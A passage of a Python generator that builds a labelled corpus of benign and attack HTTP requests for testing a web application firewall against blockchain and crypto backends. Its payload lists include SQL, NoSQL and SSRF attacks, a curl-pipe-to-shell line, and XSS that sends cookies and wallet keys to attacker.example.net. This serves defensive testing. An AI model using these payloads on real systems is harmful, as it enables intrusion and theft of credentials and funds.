#!/usr/bin/env python3
"""Held-out request corpus "web3": blockchain and crypto-asset web backends.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape
    described in /work/shared/corpora/README.md) for the traffic of web
    backends around blockchains and crypto assets.  Attack requests carry the
    OWASP classes (SQL/NoSQL injection, XSS, SSRF, path traversal, command
    injection, SSTI, XXE, Log4Shell, prototype pollution, GraphQL abuse,
    scanners) through the carriers these applications really use; benign
    requests are the legitimate traffic of the same applications, full of
    high-entropy hex / base58 / base64 data, long calldata, signatures,
    Solidity and Vyper source, markdown, GraphQL and multilingual chat.

Applications
    - Ethereum-style JSON-RPC gateways (eth_call, eth_getLogs,
      eth_sendRawTransaction, batch arrays)
    - wallet backends (address books, ENS names, Sign-In with Ethereum, nonces)
    - NFT marketplaces (metadata JSON, ipfs:// URLs, markdown descriptions,
      traits)
    - exchange APIs (orders with HMAC signature headers, pair filters, base64
      pagination cursors)
    - block explorers (search box, contract source verification uploads)
    - DeFi dashboards (GraphQL subgraph queries with where: filters)
    - token-gated community forums, KYC document uploads, chain-indexer
      webhooks

Modes
    attacks   every request is a real attack or probe; expect "detect";
              category is the attack class (sqli, xss, lfi, rfi, rce, php,
              java, ssrf, xxe, ssti, nosqli, ldapi, crlf, protocol, scanner,
              generic)
    benign    legitimate requests; expect "pass"; category "benign", or
              "dev-content" (about 15 %) when the user content is itself
              code, SQL, shell, markup, templates or query expressions

Written blind
    This generator was written without reading Palisade's rules, tests, test
    data, proxy code or any other corpus generator, and without running the
    WAF.  Payloads come from general knowledge of real traffic and of
    published attack techniques, aimed at attack classes rather than at any
    WAF's rules.  Standard library only; fixed random seed; the output is
    byte-for-byte reproducible.

Run
    python3 scripts/corpus-web3.py attacks > rulesets/tests/data/web3-attacks.jsonl
    python3 scripts/corpus-web3.py benign  > rulesets/tests/data/web3-benign.jsonl
"""

import base64
import hashlib
import hmac
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "web3"
SEED = 0x3EB3

rng = random.Random(SEED)

# --------------------------------------------------------------------------
# hosts and clients
# --------------------------------------------------------------------------

H_RPC = "rpc.example.com"
H_RPC2 = "mainnet.node.example.net"
H_WALLET = "wallet.example.net"
H_NFT = "nft.example.org"
H_NFTAPI = "api.nft.example.org"
H_EX = "api.exchange.example.com"
H_EXWEB = "exchange.example.com"
H_SCAN = "explorer.example.com"
H_DEFI = "app.defi.example.org"
H_GRAPH = "graph.defi.example.org"
H_FORUM = "forum.example.net"
H_KYC = "kyc.example.com"
H_HOOK = "hooks.example.org"

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
]
SDKS = [
    "ethers/6.13.1",
    "web3.py/6.19.0",
    "viem/2.17.3",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.7.2",
    "Go-http-client/1.1",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "curl/8.8.0",
]
TOOLS = [
    "sqlmap/1.8.6#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"

LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "ja-JP,ja;q=0.9,en;q=0.6",
         "ko-KR,ko;q=0.9", "zh-CN,zh;q=0.9,en;q=0.5", "es-ES,es;q=0.9", "tr-TR,tr;q=0.9",
         "pt-BR,pt;q=0.9,en;q=0.6", "vi-VN,vi;q=0.9"]


# --------------------------------------------------------------------------
# random blockchain-shaped data
# --------------------------------------------------------------------------

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def hexs(nbytes):
    return "".join("%02x" % rng.randrange(256) for _ in range(nbytes))


def addr():
    return "0x" + hexs(20)


def checksum_addr():
    """Mixed-case address (not a real EIP-55 checksum, but shaped like one)."""
    h = hexs(20)
    return "0x" + "".join(c.upper() if c.isalpha() and rng.random() < 0.5 else c for c in h)


def txhash():
    return "0x" + hexs(32)


def sig():
    return "0x" + hexs(65)


def b58(n):
    return "".join(rng.choice(B58) for _ in range(n))


def cid():
    return "Qm" + b58(44)


def cidv1():
    alpha = "abcdefghijklmnopqrstuvwxyz234567"
    return "bafybei" + "".join(rng.choice(alpha) for _ in range(52))


def sol_addr():
    return b58(rng.choice([43, 44]))


def b64(data):
    return base64.b64encode(data).decode()


def b64url(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def uuid4():
    h = hexs(16)
    return "%s-%s-4%s-%s-%s" % (h[:8], h[8:12], h[13:16], "a" + h[17:20], h[20:32])


def hexnum(lo, hi):
    return hex(rng.randrange(lo, hi))


def cookie_session():
    return "sid=" + b64url(bytes(rng.randrange(256) for _ in range(24)))


def jwt():
    head = b64url(b'{"alg":"ES256","typ":"JWT"}')
    body = b64url(json.dumps({"sub": addr(), "iat": 1719800000 + rng.randrange(90000),
                              "chain": 1}).encode())
    return head + "." + body + "." + b64url(bytes(rng.randrange(256) for _ in range(64)))


def hmac_sig(secret, msg):
    return hmac.new(secret, msg.encode(), hashlib.sha256).hexdigest()


PAIRS = ["ETH/USDT", "BTC/USDT", "SOL/USDC", "ETH/BTC", "ARB/ETH", "OP/USDT", "MATIC/USDC",
         "LINK/ETH", "DOGE/USDT", "PEPE/WETH", "wstETH/ETH", "USDC/DAI"]
TOKENS = ["WETH", "USDC", "USDT", "DAI", "WBTC", "UNI", "LINK", "AAVE", "LDO", "ARB", "OP",
          "stETH", "rETH", "GRT", "MKR", "CRV", "PEPE", "SHIB"]
ENS = ["vitalik.eth", "alice.eth", "bob-the-builder.eth", "gm.frens.eth", "nft-vault.eth",
       "treasury.dao.eth", "moon.base.eth", "0xmaria.eth", "satoshi-fan.eth", "yuki.eth"]


# --------------------------------------------------------------------------
# request construction
# --------------------------------------------------------------------------

OUT = []
_counters = {}


def q(s, safe=""):
    """Percent-encode a value the way a browser / client library would."""
    return quote(s, safe=safe)


def qs(pairs):
    """application/x-www-form-urlencoded / query-string encoding."""
    return urlencode(pairs, quote_via=quote_plus)


def add(kind, slug, category, method, uri, host, headers=None, body=None):
    key = (kind, slug)
    _counters[key] = _counters.get(key, 0) + 1
    hdrs = [["Host", host]]
    for h in headers or []:
        hdrs.append([h[0], h[1]])
    rec = {
        "id": "%s/%s/%s-%03d" % (SET, kind, slug, _counters[key]),
        "set": SET,
        "category": category,
        "expect": "detect" if kind == "attacks" else "pass",
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": hdrs,
    }
    if body is not None:
        rec["body"] = body
    OUT.append(rec)


def browser_headers(accept=ACCEPT_HTML, cookie=True, referer=None, ua=None):
    h = [["User-Agent", ua or rng.choice(BROWSERS)], ["Accept", accept],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie_session() + "; theme=dark"])
    return h


def xhr_headers(ctype=None, origin=None, auth=None, cookie=True, ua=None):
    h = [["User-Agent", ua or rng.choice(BROWSERS)], ["Accept", ACCEPT_JSON],
         ["Accept-Language", rng.choice(LANGS)]]
    if ctype:
        h.append(["Content-Type", ctype])
    if origin:
        h.append(["Origin", origin])
    if auth:
        h.append(["Authorization", auth])
    if cookie:
        h.append(["Cookie", cookie_session()])
    return h


def sdk_headers(ctype="application/json", ua=None, extra=None):
    h = [["User-Agent", ua or rng.choice(SDKS)], ["Accept", "application/json"]]
    if ctype:
        h.append(["Content-Type", ctype])
    for e in extra or []:
        h.append(e)
    return h


def tool_headers(ctype=None, ua=None, accept="*/*"):
    h = [["User-Agent", ua or rng.choice(TOOLS)], ["Accept", accept]]
    if ctype:
        h.append(["Content-Type", ctype])
    return h


def rpc_body(method, params, rid=None):
    return json.dumps({"jsonrpc": "2.0", "id": rid if rid is not None else rng.randrange(1, 999),
                       "method": method, "params": params}, separators=(",", ":"))


def multipart(fields, boundary=None):
    """fields: list of (name, value) or (name, filename, ctype, content)."""
    b = boundary or ("----WebKitFormBoundary" + b58(16))
    parts = []
    for f in fields:
        if len(f) == 2:
            parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
                         % (b, f[0], f[1]))
        else:
            parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
                         'Content-Type: %s\r\n\r\n%s\r\n' % (b, f[0], f[1], f[2], f[3]))
    return "".join(parts) + "--%s--\r\n" % b, "multipart/form-data; boundary=" + b


def exchange_auth(method, path, body=""):
    ts = str(1719800000000 + rng.randrange(10 ** 8))
    key = b58(32)
    s = hmac_sig(b"not-a-real-secret", ts + method + path + body)
    return [["X-API-KEY", key], ["X-API-TIMESTAMP", ts], ["X-API-SIGN", s]]


# ==========================================================================
# ATTACKS
# ==========================================================================

def cyc(seq, i):
    return seq[i % len(seq)]


# ---------------- SQL injection: explorer search, exchange filters/sort -----

SQLI = [
    "0x5aeda56215b167893e80b4fe645ba6d5bab767de' OR '1'='1",
    "' OR 1=1-- -",
    "1' UNION SELECT NULL,username,password_hash,NULL FROM admin_users-- -",
    "17000000 UNION ALL SELECT NULL,NULL,CONCAT(0x7162787671,IFNULL(CAST(version() AS NCHAR),0x20),0x716b6a7a71),NULL-- -",
    "USDC' AND (SELECT 5821 FROM (SELECT(SLEEP(5)))xKdq)-- WbCe",
    "ETH'; SELECT pg_sleep(10)--",
    "1); DROP TABLE transactions;--",
    "' AND EXTRACTVALUE(4279,CONCAT(0x5c,0x71786b7671,(SELECT MID(api_secret,1,20) FROM api_keys LIMIT 1),0x71626b6a71))-- -",
    "x' AND 1=CAST((SELECT current_user) AS int)--",
    "' UNION SELECT table_name,column_name,NULL FROM information_schema.columns--",
    "0' OR SLEEP(6)#",
    "1 AND 7331=(SELECT 7331 FROM PG_SLEEP(5))",
    "')) OR EXISTS(SELECT 1 FROM wallets WHERE private_key IS NOT NULL)--",
    "' WAITFOR DELAY '0:0:7'--",
    "1;EXEC xp_cmdshell('whoami')--",
    "' AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version),0x7e),1)-- ",
    "9999999 or 1=1",
    "USDT\" OR \"a\"=\"a",
    "-1' UNION SELECT 1,group_concat(email,0x3a,password) FROM users-- -",
    "' OR '1'='1' /*",
    "1' ORDER BY 14-- -",
    "'||(SELECT CASE WHEN (SUBSTR((SELECT seed FROM hot_wallet LIMIT 1),1,1)='a') THEN pg_sleep(4) ELSE pg_sleep(0) END)||'",
    "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64",
    "' UNION SELECT load_file('/etc/passwd'),2,3-- -",
    "1'/**/UnIoN/**/SeLeCt/**/null,concat(user(),0x3a,database()),null#",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.50/x|sh'--",
    "0x00' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "' OR 'x'='x' LIMIT 1 INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e-- -",
    "1 RLIKE (SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0x28 END))",
    "admin'--",
    "') UNION SELECT sqlite_version(),NULL--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))a) AND 'a'='a",
]

SQLI_SORT = [
    "created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
    "price desc;SELECT pg_sleep(5)",
    "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN volume ELSE price END)",
    "IF(1=1,SLEEP(5),timestamp)",
    "timestamp ASC, extractvalue(1,concat(0x7e,version()))",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
]


def attacks_sqli():
    cat = "sqli"
    carriers = [
        # explorer search box
        lambda p: add("attacks", "explorer-search-sqli", cat, "GET",
                      "/search?q=" + q(p, safe="") + "&chain=eth", H_SCAN,
                      browser_headers(referer="https://%s/" % H_SCAN)),
        # explorer etherscan-style API
        lambda p: add("attacks", "explorer-api-sqli", cat, "GET",
                      "/api?" + qs([("module", "account"), ("action", "txlist"),
                                    ("address", p), ("startblock", "0"),
                                    ("endblock", "99999999"), ("sort", "asc"),
                                    ("apikey", b58(34))]), H_SCAN,
                      tool_headers(accept="application/json")),
        # exchange order history filter in query
        lambda p: add("attacks", "exchange-filter-sqli", cat, "GET",
                      "/api/v3/allOrders?" + qs([("symbol", p), ("limit", "500"),
                                                 ("timestamp", str(1719800000000 + rng.randrange(10 ** 7)))]),
                      H_EX, tool_headers(accept="application/json") + exchange_auth("GET", "/api/v3/allOrders")),
        # token holders path segment
        lambda p: add("attacks", "explorer-token-path-sqli", cat, "GET",
                      "/api/v2/tokens/" + q(p) + "/holders?page=1", H_SCAN,
                      xhr_headers(cookie=False)),
        # JSON filter body on exchange trade search
        lambda p: add("attacks", "exchange-json-sqli", cat, "POST", "/api/v1/trades/search", H_EX,
                      xhr_headers("application/json", origin="https://" + H_EXWEB,
                                  auth="Bearer " + jwt()),
                      json.dumps({"pair": p, "side": "buy", "from": "2024-06-01", "limit": 50})),
        # block number lookup
        lambda p: add("attacks", "explorer-block-sqli", cat, "GET",
                      "/block?" + qs([("number", p)]), H_SCAN, browser_headers()),
        # GraphQL where: filter on indexer
        lambda p: add("attacks", "subgraph-where-sqli", cat, "POST", "/subgraphs/name/dex/v3", H_GRAPH,
                      xhr_headers("application/json", origin="https://" + H_DEFI, cookie=False),
                      json.dumps({"query": "{ tokens(where: {symbol: %s}) { id name decimals } }"
                                  % json.dumps(p)})),
        # urlencoded form on address book
        lambda p: add("attacks", "wallet-addressbook-sqli", cat, "POST", "/api/addressbook/find", H_WALLET,
                      xhr_headers("application/x-www-form-urlencoded; charset=UTF-8",
                                  origin="https://" + H_WALLET),
                      qs([("label", p), ("network", "mainnet")])),
        # cookie-carried referral code
        lambda p: add("attacks", "referral-cookie-sqli", cat, "GET", "/dashboard", H_EXWEB,
                      [["User-Agent", rng.choice(TOOLS)], ["Accept", ACCEPT_HTML],
                       ["Cookie", cookie_session() + "; ref=" + q(p)]]),
        # eth_getLogs against an SQL-backed indexer
        lambda p: add("attacks", "rpc-indexer-sqli", cat, "POST", "/v1/mainnet", H_RPC,
                      sdk_headers(ua=rng.choice(TOOLS)),
                      rpc_body("eth_getLogs", [{"fromBlock": "0x112a880", "toBlock": "latest",
                                                "address": p}])),
    ]
    for i, p in enumerate(SQLI):
        cyc(carriers, i)(p)
    # a second pass on a shifted carrier for the first payloads
    for i, p in enumerate(SQLI[:14]):
        cyc(carriers, i + 5)(p)
    for i, p in enumerate(SQLI_SORT):
        if i % 2 == 0:
            add("attacks", "exchange-sort-sqli", cat, "GET",
                "/api/v1/markets?" + qs([("quote", "USDT"), ("sort", p), ("page", "1")]),
                H_EX, xhr_headers(cookie=False, ua=rng.choice(TOOLS)))
        else:
            add("attacks", "explorer-sort-sqli", cat, "POST", "/api/tokens/list", H_SCAN,
                xhr_headers("application/json", origin="https://" + H_SCAN),
                json.dumps({"orderBy": p, "orderDirection": "desc", "first": 100}))
    # header-carried
    add("attacks", "xff-sqli", cat, "GET", "/api/v1/ticker/24hr?symbol=ETHUSDT", H_EX,
        tool_headers(accept="application/json") + [["X-Forwarded-For", "203.0.113.9' AND SLEEP(5)-- -"]])
    add("attacks", "apikey-header-sqli", cat, "GET", "/api/v1/account", H_EX,
        [["User-Agent", "python-requests/2.31.0"], ["Accept", "application/json"],
         ["X-API-KEY", "x' UNION SELECT secret,NULL FROM api_keys WHERE '1'='1"]])


# ---------------- XSS: NFT names/descriptions/traits, token symbols -------

XSS = [
    "<script>fetch('https://attacker.example.net/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "\"><svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(window.ethereum.selectedAddress)\"></iframe>",
    "<a href=\"javascript:window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x000000000000000000000000000000000000dEaD',value:'0xde0b6b3a7640000'}]})\">Claim airdrop</a>",
    "<body onload=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS5uZXQvP2s9Jytsb2NhbFN0b3JhZ2Uud2FsbGV0KQ=='))>",
    "<details open ontoggle=alert`1`>",
    "'-alert(1)-'",
    "</title><script src=//attacker.example.net/drain.js></script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "javascript:alert(document.cookie)",
    "<input autofocus onfocus=\"new Image().src='//attacker.example.net/?'+localStorage.getItem('privateKey')\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<marquee onstart=alert(1)>FREE MINT</marquee>",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "<svg><script href=data:,alert(1) />",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "{{constructor.constructor('alert(1)')()}}",
    "<link rel=import href=//attacker.example.net/x.html>",
    "[click me](javascript:alert(document.cookie))",
    "<a href=\"jav&#x09;ascript:alert(1)\">view on explorer</a>",
    "<base href=\"//attacker.example.net/\">",
    "<img src=1 onerror=import('//attacker.example.net/w.js')>",
    "${alert(1)}</textarea><script>alert(1)</script>",
    "<svg onload=setTimeout`alert\\x28document.cookie\\x29`>",
    "<style>@import'//attacker.example.net/x.css';</style><b onmouseover=alert(1)>hover</b>",
]


def attacks_xss():
    cat = "xss"
    carriers = [
        # NFT metadata JSON upload (name)
        lambda p: add("attacks", "nft-metadata-name-xss", cat, "POST", "/api/v1/collections/%s/items" % uuid4(),
                      H_NFTAPI, xhr_headers("application/json", origin="https://" + H_NFT,
                                            auth="Bearer " + jwt()),
                      json.dumps({"name": p, "description": "Genesis piece", "image": "ipfs://" + cid(),
                                  "attributes": [{"trait_type": "Background", "value": "Blue"}]})),
        # NFT description markdown
        lambda p: add("attacks", "nft-description-xss", cat, "PATCH", "/api/v1/collections/" + q("cosmic-frogs"),
                      H_NFTAPI, xhr_headers("application/json", origin="https://" + H_NFT,
                                            auth="Bearer " + jwt()),
                      json.dumps({"description": "## About\n\nHand drawn frogs. " + p + "\n\n- 10k supply"})),
        # trait value
        lambda p: add("attacks", "nft-trait-xss", cat, "POST", "/api/v1/items/%d/attributes" % rng.randrange(1, 10000),
                      H_NFTAPI, xhr_headers("application/json", origin="https://" + H_NFT,
                                            auth="Bearer " + jwt()),
                      json.dumps([{"trait_type": "Eyes", "value": p}, {"trait_type": "Mouth", "value": "Smile"}])),
        # explorer search reflected
        lambda p: add("attacks", "explorer-search-xss", cat, "GET", "/search?q=" + q(p), H_SCAN,
                      browser_headers()),
        # token symbol in token-info update form (urlencoded)
        lambda p: add("attacks", "token-symbol-xss", cat, "POST", "/tokenupdate/submit", H_SCAN,
                      browser_headers(accept=ACCEPT_HTML, referer="https://%s/tokenupdate" % H_SCAN)
                      + [["Content-Type", "application/x-www-form-urlencoded"]],
                      qs([("contract", addr()), ("symbol", p), ("decimals", "18"),
                          ("website", "https://token.example.org"), ("email", "dev@example.org")])),
        # forum post in token-gated community
        lambda p: add("attacks", "forum-post-xss", cat, "POST", "/posts.json", H_FORUM,
                      xhr_headers("application/x-www-form-urlencoded; charset=UTF-8",
                                  origin="https://" + H_FORUM)
                      + [["X-CSRF-Token", b64(bytes(rng.randrange(256) for _ in range(32)))],
                         ["X-Requested-With", "XMLHttpRequest"]],
                      qs([("raw", "gm frens " + p), ("topic_id", str(rng.randrange(100, 9000))),
                          ("category", "12")])),
        # ENS / wallet profile text record
        lambda p: add("attacks", "wallet-profile-xss", cat, "PUT", "/api/profile", H_WALLET,
                      xhr_headers("application/json", origin="https://" + H_WALLET),
                      json.dumps({"address": addr(), "displayName": p, "ens": rng.choice(ENS),
                                  "avatar": "ipfs://" + cid()})),
        # query-param reflection on a token page
        lambda p: add("attacks", "token-page-xss", cat, "GET",
                      "/token/%s?a=%s" % (addr(), q(p)), H_SCAN, browser_headers()),
        # multipart collection create with banner
        lambda p: add("attacks", "collection-multipart-xss", cat, "POST", "/api/v1/collections", H_NFTAPI,
                      *(lambda mp: (xhr_headers(mp[1], origin="https://" + H_NFT, auth="Bearer " + jwt()), mp[0]))(
                          multipart([("name", p), ("symbol", "FROG"), ("royaltyBps", "500"),
                                     ("banner", "banner.png", "image/png", "\x89PNG\r\n\x1a\n" + b58(40))]))),
    ]
    for i, p in enumerate(XSS):
        cyc(carriers, i)(p)
    for i, p in enumerate(XSS[:12]):
        cyc(carriers, i + 4)(p)
    # referer / user-agent stored and rendered in admin log viewer
    add("attacks", "header-stored-xss", cat, "GET", "/nft/cosmic-frogs/1337", H_NFT,
        [["User-Agent", "<script>new Image().src='//attacker.example.net/'+document.cookie</script>"],
         ["Accept", ACCEPT_HTML], ["Referer", "https://example.com/\"><img src=x onerror=alert(1)>"]])


# ---------------- NoSQL injection: wallet login / nonce JSON -------------

def attacks_nosqli():
    cat = "nosqli"
    a = addr()
    bodies = [
        ("siwe-verify", "/api/auth/verify", H_WALLET,
         {"address": {"$ne": None}, "signature": {"$ne": ""}, "nonce": {"$exists": True}}),
        ("login", "/api/auth/login", H_WALLET, {"email": {"$gt": ""}, "password": {"$gt": ""}}),
        ("nonce", "/api/auth/nonce", H_WALLET, {"address": {"$regex": "^0x"}}),
        ("login", "/api/auth/login", H_EXWEB, {"email": "admin@example.com", "password": {"$ne": "x"}}),
        ("apikey", "/api/v1/apikeys/lookup", H_EX, {"key": {"$nin": ["a"]}}),
        ("where", "/api/v1/users/search", H_WALLET,
         {"$where": "function(){ sleep(5000); return true; }"}),
        ("where", "/api/v1/orders/find", H_EX,
         {"filter": {"$where": "this.userId == this.userId || '1'=='1'"}}),
        ("regex", "/api/auth/reset", H_EXWEB, {"token": {"$regex": ".*"}, "newPassword": "hunter22!"}),
        ("expr", "/api/v1/wallets/query", H_WALLET,
         {"filter": {"$expr": {"$gt": [{"$strLenCP": "$privateKey"}, 0]}}}),
        ("lookup", "/api/v1/nft/aggregate", H_NFTAPI,
         {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "address",
                                    "as": "u"}}, {"$project": {"u.passwordHash": 1, "u.email": 1}}]}),
        ("or", "/api/auth/verify", H_WALLET,
         {"$or": [{"address": a}, {"role": "admin"}], "signature": {"$type": 2}}),
        ("function", "/api/v1/listings/search", H_NFTAPI,
         {"price": {"$function": {"body": "function(){return process.mainModule.require('child_process').execSync('id').toString()}",
                                  "args": [], "lang": "js"}}}),
    ]
    for slug, path, host, body in bodies:
        add("attacks", "nosql-json-" + slug, cat, "POST", path, host,
            xhr_headers("application/json", origin="https://" + host, ua=rng.choice(TOOLS)),
            json.dumps(body))
    # query-string / form bracket syntax
    forms = [
        ("/api/auth/login", H_EXWEB, [("email[$ne]", "x"), ("password[$ne]", "x")]),
        ("/api/auth/verify", H_WALLET, [("address[$gt]", ""), ("signature[$ne]", "0x")]),
        ("/api/referrals", H_EXWEB, [("code[$regex]", "^A"), ("code[$options]", "i")]),
        ("/api/v1/users", H_WALLET, [("username[$exists]", "true"), ("role[$in][]", "admin")]),
    ]
    for path, host, pairs in forms:
        add("attacks", "nosql-form", cat, "POST", path, host,
            xhr_headers("application/x-www-form-urlencoded", origin="https://" + host),
            qs(pairs))
    gets = [
        "/api/v1/wallets?owner[$ne]=null&limit=1000",
        "/api/v1/nft/owners?address%5B%24regex%5D=.%2A&chain=1",
        "/api/v1/addressbook?label%5B%24where%5D=sleep(5000)",
        "/api/v1/kyc/status?userId[$gt]=",
    ]
    for i, u in enumerate(gets):
        host = [H_WALLET, H_NFTAPI, H_WALLET, H_KYC][i]
        add("attacks", "nosql-query", cat, "GET", u, host, xhr_headers(cookie=True))


# ---------------- SSRF: metadata / image URLs, webhooks, custom RPC -------

SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/api/token",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://127.0.0.1:8545/",
    "http://10.0.3.17:8546/",
    "http://192.168.10.4:5001/api/v0/config/show",
    "http://172.17.0.1:2375/containers/json",
    "http://127.1:8080/actuator/env",
    "http://localhost:2379/v2/keys/?recursive=true",
    "http://localhost:8500/v1/agent/self",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
    "gopher://10.0.0.8:8545/_POST%20/%20HTTP/1.1%0D%0AHost:%2010.0.0.8%0D%0AContent-Type:%20application/json%0D%0A%0D%0A%7B%22method%22:%22personal_listWallets%22%7D",
    "file:///etc/passwd",
    "file:///root/.ethereum/keystore/",
    "file:///proc/self/environ",
    "dict://127.0.0.1:11211/stats",
    "http://nft.example.org@127.0.0.1:8545/",
    "http://127.0.0.1:5984/_all_dbs",
    "http://0.0.0.0:9090/api/v1/status/config",
    "http://[::]:8545/",
    "http://192.168.0.1/cgi-bin/luci",
    "ftp://10.1.2.3/backup/wallet.dat",
    "http://169.254.169.254%2f@example.com/",
]


def attacks_ssrf():
    cat = "ssrf"
    carriers = [
        lambda u: add("attacks", "nft-refresh-ssrf", cat, "POST", "/api/v1/nft/refresh-metadata", H_NFTAPI,
                      xhr_headers("application/json", origin="https://" + H_NFT, auth="Bearer " + jwt()),
                      json.dumps({"contract": addr(), "tokenId": str(rng.randrange(1, 10000)), "tokenURI": u})),
        lambda u: add("attacks", "next-image-ssrf", cat, "GET",
                      "/_next/image?url=" + q(u) + "&w=640&q=75", H_NFT,
                      browser_headers(accept="image/avif,image/webp,*/*")),
        lambda u: add("attacks", "webhook-register-ssrf", cat, "POST", "/v1/webhooks", H_HOOK,
                      sdk_headers(extra=[["Authorization", "Bearer " + b58(40)]]),
                      json.dumps({"url": u, "network": "eth-mainnet",
                                  "events": ["ADDRESS_ACTIVITY"], "addresses": [addr()]})),
        lambda u: add("attacks", "metadata-upload-ssrf", cat, "POST", "/api/v1/items/import", H_NFTAPI,
                      xhr_headers("application/json", origin="https://" + H_NFT, auth="Bearer " + jwt()),
                      json.dumps({"name": "Frog #%d" % rng.randrange(10000), "image": u,
                                  "animation_url": u, "external_url": "https://example.org/"})),
        lambda u: add("attacks", "image-proxy-ssrf", cat, "GET", "/api/img?src=" + q(u) + "&size=256",
                      H_WALLET, browser_headers(accept="image/*")),
        lambda u: add("attacks", "custom-rpc-ssrf", cat, "POST", "/api/settings/rpc", H_DEFI,
                      xhr_headers("application/json", origin="https://" + H_DEFI),
                      json.dumps({"chainId": 1, "rpcUrl": u, "name": "My node"})),
        lambda u: add("attacks", "ens-avatar-ssrf", cat, "GET",
                      "/api/ens/avatar?" + qs([("name", rng.choice(ENS)), ("fallback", u)]), H_WALLET,
                      xhr_headers(cookie=False)),
        lambda u: add("attacks", "collection-import-form-ssrf", cat, "POST", "/collections/import", H_NFT,
                      browser_headers() + [["Content-Type", "application/x-www-form-urlencoded"]],
                      qs([("contract", addr()), ("baseURI", u), ("chain", "ethereum")])),
    ]
    for i, u in enumerate(SSRF_URLS):
        cyc(carriers, i)(u)
    for i, u in enumerate(SSRF_URLS[:10]):
        cyc(carriers, i + 3)(u)


# ---------------- LFI: token-URI paths, KYC downloads, IPFS gateway -----

LFI = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
